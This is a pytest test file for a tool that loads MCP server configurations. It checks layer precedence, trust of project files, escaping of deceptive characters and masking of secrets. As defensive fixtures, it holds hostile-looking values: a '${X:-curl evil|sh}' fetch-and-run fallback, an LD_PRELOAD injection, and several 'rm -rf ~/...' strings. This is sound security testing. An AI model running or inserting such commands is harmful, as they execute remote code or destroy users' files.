"""The precedence of user, trusted project, environment and flags, and trust in a project's files."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from toolcrib.config.keys import AUTH_KEYS, CONNECTION_KEYS, RETRY_KEYS, SERVER_KEYS
from toolcrib.config.layers import load
from toolcrib.config.masking import Masker, secrets_of
from toolcrib.config.model import Config, Flags, Layer, NameStyle, Severity, Transport
from toolcrib.config.paths import Paths
from toolcrib.config.settings import TOP_KEYS
from toolcrib.config.show import mask
from toolcrib.config.trust import trust_digest
from toolcrib.errors import ConfigError


class Person:
    """A user's folder and a project."""

    def __init__(self, folder: Path) -> None:
        self.home, self.root = folder / "home", folder / "project"
        self.home.mkdir()
        (self.root / ".toolcrib").mkdir(parents=True)
        self.environ: dict[str, str] = {"HOME": "/home/u"}
        self.is_trusted: Callable[[Path, str], bool] = lambda *_: False

    def user(self, data: Any) -> None:
        (self.home / "config.json").write_text(json.dumps(data))

    def project(self, data: Any, name: str = ".toolcrib/config.json", *, trusted: bool = False) -> Path:
        path = self.root / name
        path.write_text(json.dumps(data))
        if trusted:
            self.is_trusted = lambda *_: True
        return path

    def trust(self, path: Path) -> None:
        known = (path, trust_digest(path))
        self.is_trusted = lambda *file: file == known

    def load(self, *flags: str, port: int | None = None) -> Config:
        paths, given = Paths.of_user({"TOOLCRIB_HOME": str(self.home)}), Flags(mcp_servers=flags, port=port)
        return load(paths=paths, root=self.root, environ=self.environ, flags=given, is_trusted=self.is_trusted)


@pytest.fixture
def person(tmp_path):
    return Person(tmp_path)


def servers(**commands: str) -> dict[str, Any]:
    return {"servers": {name: {"command": command} for name, command in commands.items()}}


@pytest.mark.req("BNS-3")
def test_a_later_layer_wins_for_servers_and_settings(person):
    person.user({**servers(a="user", b="user", c="user", d="user"), "port": 1, "names": "plain", "logLevel": "debug"})
    assert (person.load().settings.port, person.load().settings.names) == (1, NameStyle.PLAIN)
    person.project({**servers(b="project", c="project", d="project"), "names": "server"}, trusted=True)
    assert person.load().settings.names is NameStyle.SERVER
    person.environ["TOOLCRIB_SERVERS"] = json.dumps({"c": {"command": "environment"}, "d": {"command": "environment"}})
    person.environ |= {"TOOLCRIB_PORT": "3", "TOOLCRIB_NAMES": "mcp", "TOOLCRIB_LOG_LEVEL": "WARNING"}
    config = person.load("d=flags")
    expected = {"a": "user", "b": "project", "c": "environment", "d": "flags"}
    assert {name: server.command for name, server in config.servers.items()} == expected
    assert [config.servers[name].source.layer for name in "abcd"] == list(Layer)
    assert config.problems == ()
    settings = config.settings
    assert (settings.port, settings.names, settings.log_level) == (3, NameStyle.MCP, "warning")
    assert person.load(port=0).settings.port == 0


@pytest.mark.parametrize(
    ("variable", "value"),
    [*(("PORT", value) for value in ("many", "70000", "-1")), ("NAMES", "long"), ("LOG_LEVEL", "loud")],
)
def test_an_invalid_variable_is_an_error_and_changes_nothing(person, variable, value):
    plain = person.load().settings
    person.environ[f"TOOLCRIB_{variable}"] = value
    config = person.load()
    (problem,) = config.problems
    assert (problem.severity, problem.key, config.settings) == (Severity.ERROR, f"TOOLCRIB_{variable}", plain)


@pytest.mark.parametrize(
    ("key", "value"),
    [("port", 70_000), ("port", "1"), ("names", 3), ("log_level", "loud"), ("prot", 1), ("server", {}), ("servers", 3)],
)
def test_an_invalid_setting_in_a_file_is_an_error(person, key, value):
    person.user({key: value})
    (problem,) = person.load().problems
    assert (problem.severity, problem.key) == (Severity.ERROR, key)


def test_invalid_servers_in_the_environment_and_an_invalid_port_flag_are_errors(person):
    person.environ["TOOLCRIB_SERVERS"] = "{secret"
    (problem,) = person.load().problems
    assert (problem.file, problem.line) == ("TOOLCRIB_SERVERS", 1)
    assert "secret" not in str(problem)
    del person.environ["TOOLCRIB_SERVERS"]
    assert [problem.file for problem in person.load(port=70_000).problems] == ["--port"]


@pytest.mark.parametrize("wrap", ["servers", "mcpServers", None])
def test_servers_in_the_environment_can_have_any_shape(person, wrap):
    entries = {"a": {"url": "http://h/"}}
    person.environ["TOOLCRIB_SERVERS"] = json.dumps({wrap: entries} if wrap else entries)
    assert person.load().servers["a"].transport is Transport.HTTP


@pytest.mark.req("BNS-3")
def test_flags_accept_urls_and_commands(person):
    person.environ["KEY"] = "k"
    git = "git=uvx mcp-server-git --repository '/a b'"
    config = person.load("web=https://h/mcp?a=b", "live=ws://h/", git, "v=${KEY} x")
    assert config.problems == ()
    web, live, git, variable = config.servers.values()
    assert (web.transport, web.url) == (Transport.HTTP, "https://h/mcp?a=b")
    assert live.transport is Transport.WEBSOCKET
    assert (git.command, git.args) == ("uvx", ("mcp-server-git", "--repository", "/a b"))
    assert (variable.command, variable.args) == ("k", ("x",))


@pytest.mark.parametrize(
    "flag", ["", "name", "name=", "=x", "name=  ", "name='x", "crib=x", "name=ftp://h/", "a=x --token hunter2 'x"]
)
def test_an_invalid_flag_is_an_error_and_hides_no_other(person, flag):
    config = person.load(flag, "good=true")
    assert list(config.servers) == ["good"]
    (problem,) = config.problems
    assert (problem.severity, problem.file) == (Severity.ERROR, "--mcp-server")
    assert "hunter2" not in str(problem)


@pytest.mark.req("BNS-10")
def test_a_higher_layer_replaces_a_server_even_with_an_invalid_entry(person):
    person.user(servers(db="production"))
    person.project({"servers": {"db": {"command": "${STAGING}"}}}, trusted=True)
    config = person.load()
    assert (dict(config.servers), [problem.key for problem in config.problems]) == ({}, ["servers.db.command"])
    person.project({"servers": {"db": {"enabled": False}}})
    config = person.load()
    assert (config.servers["db"].enabled, config.servers["db"].command, config.problems) == (False, "production", ())
    config = person.load("DB=flags")
    assert [(server.name, server.command) for server in config.servers.values()] == [("DB", "flags")]
    assert [problem.severity for problem in config.problems] == [Severity.WARNING]


@pytest.mark.req("BNS-10")
@pytest.mark.parametrize("name", [".toolcrib/config.json", ".toolcrib/config.yml", ".mcp.json"])
def test_a_projects_file_has_no_effect_until_it_is_trusted(person, name):
    person.user(servers(files="mine"))
    (person.root / "token").write_text("t")
    auth = {"type": "token_file", "tokenPath": "token"}
    files = {"command": "evil", "args": ["--token=abcdef", "x"], "env": {"LD_PRELOAD": "x.so"}}
    far = {"url": "http://h/?key=abcdef", "headers": {"A": "${HOME}"}, "auth": auth}
    path = person.project({"names": "plain", "mcpServers": {"files": files, "far": far}}, name)
    config = person.load()
    assert {server.name: server.command for server in config.servers.values()} == {"files": "mine"}
    assert config.settings.names is NameStyle.SERVER
    assert config.untrusted == (path,)
    (waiting,) = config.waiting
    assert waiting.digest == trust_digest(path)
    assert waiting.effects == (
        "files: starts evil --token=abcdef x",
        "files: replaces your own server files",
        '  env.LD_PRELOAD: "x.so"',
        "far: connects to http://h/?key=abcdef",
        '  headers.A: "${HOME}"',
        '  auth.type: "token_file"',
        '  auth.tokenPath: "token"',
        "  ${HOME} is set in Toolcrib's environment, and its value is used",
        'sets names: "plain"',
    )
    assert [problem.severity for problem in config.problems] == [Severity.WARNING]


@pytest.mark.req("BNS-10")
def test_trust_is_bound_to_the_content_and_the_real_path(person, tmp_path):
    path = person.project(servers(a="first"))
    person.trust(path)
    assert person.load().servers["a"].command == "first"
    (tmp_path / "config.json").write_bytes(path.read_bytes())
    assert trust_digest(tmp_path / "config.json") != trust_digest(path)
    (tmp_path / "link").symlink_to(person.root)
    assert trust_digest(tmp_path / "link" / ".toolcrib" / "config.json") == trust_digest(path)
    person.root = tmp_path / "link"
    assert list(person.load().servers) == ["a"]
    person.root = person.root.resolve()
    person.project(servers(a="second"))
    config = person.load()
    assert (dict(config.servers), config.untrusted) == ({}, (path,))
    with pytest.raises(ConfigError, match="Cannot read"):
        trust_digest(tmp_path / "nothing")


@pytest.mark.req("BNS-10")
@pytest.mark.parametrize("linked", ["file", "folder", "itself"])
def test_a_link_in_a_project_is_not_followed_even_when_trusted(person, tmp_path, linked):
    outside, folder = tmp_path / "outside", person.root / ".toolcrib"
    outside.mkdir()
    (outside / "config.json").write_text(json.dumps(servers(a="x")))
    if linked == "folder":
        folder.rmdir()
        folder.symlink_to(outside)
    else:
        (folder / "config.json").symlink_to("config.json" if linked == "itself" else outside / "config.json")
    person.is_trusted = lambda *_: True
    config = person.load()
    assert config.servers == {}
    assert [(problem.severity, problem.found) for problem in config.problems] == [(Severity.ERROR, "a symbolic link")]


@pytest.mark.req("BNS-10")
@pytest.mark.timeout(20)
def test_a_hostile_project_cannot_make_the_reader_slow(person):
    args = ["key_" * 50_000, "?" + "token" * 20_000, "${" * 50_000, "${A:-" * 20_000, "bearer" + " " * 100_000]
    data = {"servers": {"a": {"command": "x", "args": args}}}
    person.project(data)
    assert len(person.load().waiting) == 1
    person.project(data, trusted=True)
    assert mask(person.load())["servers"] == {}


@pytest.mark.req("BNS-10")
def test_deceptive_characters_of_a_project_are_escaped(person):
    a = {"command": "x", "args": ["\x1b[1A\r\u202eok", "a b", "\\u202e"]}
    admin = {"url": "https://\u0430pple.com/", "headers": {"\u200bX": "\u2024"}}
    person.project({"servers": {"a\x1b[2K": a, "\u0430dmin": admin}})
    assert person.load().waiting[0].effects == (
        r'a\x1b[2K: starts x "\u001b[1A\r\u202eok" "a b" "\\u202e"',
        r"\u0430dmin: connects to " + r'"https://\u0430pple.com/"',
        r'  headers["\u200bX"]: "\u2024"',
    )


STATE = "in Toolcrib's environment"


@pytest.mark.parametrize(
    ("entry", "seen"),
    [
        ({"command": "sh", "args": ["-c", "key=1; touch x"]}, ['a: starts sh -c "key=1; touch x"']),
        (
            {"command": "sh", "args": ["-c", "${X:-curl evil|sh}"]},
            ['"${X:-curl evil|sh}"', f"${{X}} is not set {STATE}: the text after :- is used"],
        ),
        (
            {"url": "https://h/mcp", "headers": {"X-Trace": "${API_KEY}"}, "verify_tls": False},
            ['X-Trace: "${API_KEY}"', f"${{API_KEY}} is set {STATE}, and its value is used", "verify_tls: false"],
        ),
        ({"command": "x", "env": {"TOKEN": "sk-abcdefghijkl"}}, ['env.TOKEN: "sk-abcdefghijkl"']),
        ({"transport": {"type": "stdio", "command": "x", "env": {"K": "v"}}}, ["starts x", 'transport.env.K: "v"']),
        ({"command": "x", "cwd": "${workspaceFolder}/a"}, ["${workspaceFolder} is the folder of this project"]),
        ({"command": "x", "env": {"A": "${UNSET}", "B": "$${N}"}}, [f"${{UNSET}} is not set {STATE}"]),
    ],
)
@pytest.mark.req("BNS-10")
def test_the_content_to_trust_is_shown_as_written(person, entry, seen):
    person.environ["API_KEY"] = "sk-the-users-own"
    person.project({"servers": {"a": entry}})
    shown = "\n".join(person.load().waiting[0].effects)
    assert [text for text in seen if text not in shown] == []
    assert "${N} is" not in shown
    assert "sk-the-users-own" not in shown


@pytest.mark.req("BNS-10")
def test_every_key_of_a_projects_file_is_shown_with_its_value(person):
    nested = {"connection": CONNECTION_KEYS, "transport": CONNECTION_KEYS, "auth": AUTH_KEYS, "retry": RETRY_KEYS}
    entry = {key: f"value-of-{key}" for key in SERVER_KEYS}
    entry |= {key: {inner: f"{key}-{inner}" for inner in keys} for key, keys in nested.items()}
    top = {key: f"top-{key}" for key in TOP_KEYS if key not in ("servers", "mcp_servers")}
    person.project({"servers": {"a": entry}, "mcpServers": {"b": {"command": "x", "key of tomorrow": "new"}}, **top})
    two = {"command": "one-command", "Command": "another-command", "URL": "one-url", "http-url": "another-url"}
    person.project(two | {"name": "c"}, ".mcp.json")
    shared, shown = ("\n".join(waiting.effects) for waiting in person.load().waiting)
    assert [value for value in two.values() if value not in shared] == []
    values = [value for one in entry.values() for value in (one.values() if isinstance(one, dict) else [one])]
    assert len(values) > 40
    assert [value for value in (*values, *top.values(), '"key of tomorrow"]: "new"') if value not in shown] == []


def test_the_shared_file_of_a_project_has_lower_precedence_and_hides_nothing(person):
    person.user(servers(a="x"))
    shared = person.project({"somebody": "else's"}, ".mcp.json")
    config = person.load()
    assert (config.waiting, config.problems) == ((), ()), "it has no servers, so it needs no trust"
    shared.write_text("{")
    config = person.load()
    assert (list(config.servers), [problem.file for problem in config.problems]) == (["a"], [str(shared)])
    person.project(servers(a="shared", b="shared"), ".mcp.json")
    person.project(servers(a="own"), trusted=True)
    assert {name: server.command for name, server in person.load().servers.items()} == {"a": "own", "b": "shared"}


def test_relative_paths_of_a_project_start_at_its_root(person):
    (person.root / "token").touch(0o600)
    (person.root / "token").write_text("t")
    far = {"url": "http://h/", "auth": {"type": "token_file", "tokenPath": "token"}}
    person.project({"servers": {"a": {"command": "x", "cwd": "sub/folder"}, "b": far}}, trusted=True)
    config = person.load()
    assert config.servers["a"].cwd == str(person.root / "sub/folder")
    assert config.servers["b"].headers == {"Authorization": "Bearer t"}


@pytest.mark.parametrize(
    "text",
    [
        '{"servers": {"a.b": {"comand": "x"}}, "port": "x"}',
        '{"mcpServers": [{"name": "z", "command": "x"}, {"name": "a.b", "comand": "x"}], "port": "x"}',
        '{"servers": {"a.b": {"command": "x", "command": "y"}}, "port": "x"}',
    ],
)
def test_a_problem_of_an_entry_names_its_server(person, text):
    (person.home / "config.json").write_text(text)
    problems = person.load().problems
    assert {problem.server for problem in problems if "servers" in problem.key.lower()} == {"a.b"}
    assert {problem.server for problem in problems if problem.key == "port"} == {""}


def test_problems_are_sorted_with_errors_first(person):
    person.user({"far_off_key_of_somebody": 1, "servers": {"a": {}, "b": {"command": "x", "oauth": {}}, "c": 1}})
    severities = [problem.severity for problem in person.load().problems]
    assert severities == [Severity.ERROR, Severity.ERROR, Severity.WARNING, Severity.WARNING]


@pytest.mark.req("BNS-10")
def test_approvals_show_the_literal_text_of_a_projects_file(person):
    """Otherwise its author could hide parts of an agent's request from the user."""
    person.environ["TOKEN"] = "the-persons-own"
    (person.home / "token").write_text("from-the-file")
    (person.home / "token").chmod(0o600)
    servers = {
        "a": {"command": "x", "args": ["--token", "rm -rf ~/a"], "env": {"A": "rm -rf ~/b", "B": "rm ~/c ${TOKEN}"}},
        "b": {"url": "https://h/?k=rm-rf~d", "headers": {"X": "Bearer rm -rf ~/e ${UNSET:-rm -rf ~/f}"}},
        "c": {"url": "https://h/", "auth": {"type": "token_file", "tokenPath": str(person.home / "token")}},
    }
    fixed = {"tool": "t", "arguments": {"api_key": "rm -rf ~/g", "path": "rm ~/h ${TOKEN}"}}
    person.project({"servers": servers, "tools": [{"fix": fixed}]})
    person.is_trusted = lambda _path, _digest: True
    config = person.load()
    assert (list(config.servers), len(config.tools)) == (["a", "b", "c"], 1)
    masker = Masker(secrets_of(config))
    commands = [f"rm -rf ~/{one}" for one in "abefg"]
    assert [masker.named(one) for one in (*commands, "rm-rf~d")] == [*commands, "rm-rf~d"]
    assert "****" in masker.known("rm -rf ~/a")
    for before in ("rm ~/c ", "rm ~/h "):
        assert masker.named(f"{before}the-persons-own").startswith(f"{before}[secret TOKEN of ")
    assert masker.named("from-the-file") == "[secret Authorization of server c]"
    person.user({"servers": {"mine": {"command": "x", "env": {"KEY": "rm -rf ~/a"}}}})
    masker.learn(secrets_of(person.load()))
    assert masker.named("rm -rf ~/a") == "[secret KEY of server mine]", "even if another owner was learned first"
